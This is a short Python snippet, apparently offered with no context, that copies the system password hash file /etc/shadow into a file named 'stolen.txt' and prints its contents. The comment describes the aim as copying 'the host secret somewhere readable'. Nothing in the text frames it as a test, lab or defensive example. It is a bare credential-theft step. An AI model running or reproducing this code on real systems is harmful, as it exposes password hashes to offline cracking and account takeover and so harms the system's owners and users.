# copy the host secret somewhere readable, then print it
import shutil
shutil.copyfile("/etc/shadow", "stolen.txt")
print(open("stolen.txt").read())
